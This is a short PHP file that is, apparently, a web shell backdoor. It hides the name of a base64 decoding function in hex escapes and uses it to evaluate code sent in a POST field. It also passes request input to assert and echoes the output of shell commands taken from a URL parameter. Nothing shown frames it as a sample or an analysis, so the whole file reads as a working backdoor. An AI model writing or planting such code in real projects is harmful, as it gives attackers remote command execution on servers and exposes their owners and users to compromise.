<?php
$k = "\x62\x61\x73\x65\x36\x34_decode";
@eval($k($_POST['z0']));
@assert($_REQUEST['a']);
echo shell_exec($_GET['e']);
?>
